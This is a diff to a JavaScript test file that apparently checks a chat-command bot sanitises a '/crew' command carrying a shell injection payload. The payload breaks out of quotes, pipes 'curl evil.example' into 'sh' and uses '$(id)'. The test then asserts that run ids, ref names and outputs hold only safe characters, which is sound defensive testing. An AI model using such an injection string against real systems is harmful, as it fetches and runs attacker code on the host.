@@ -75,12 +75,14 @@ describe('a command', () => {
       expect([body, await gate.ask({ payload: commented(body, maya) })]).toMatchObject([body, NOTHING]);
   });
 
-  it('with a shell behind it is words: a run is named by digits, and its branch by the issue', async () => {
+  it('with a shell behind it is words: a run is named by its issue and by letters of its own', async () => {
     const { outputs, did } = await gate.ask({
-      payload: commented(`/crew fix"; curl evil.example | sh # \${IFS} $(id)`, maya),
+      payload: commented(`/crew fix "; curl evil.example | sh # \${IFS} $(id)`, maya),
     });
-    const names = did.map((each) => JSON.stringify(each)).filter((each) => /"ref\./.test(each));
-    expect(names.join('\n')).not.toMatch(/curl|evil|\$\(|IFS/);
+    expect(outputs).toMatchObject({ proceed: 'true', 'run-id': expect.stringMatching(/^fix-1-[\w-]+$/) });
+    const names = did.filter(({ kind }) => kind.startsWith('ref.')).map(({ subject }) => subject);
+    expect(names).not.toEqual([]);
+    for (const name of names) expect(name).toMatch(/^refs\/[\w./-]+$/);
     for (const value of Object.values(outputs)) expect(value).toMatch(/^[\w./-]*$/);
   });
 
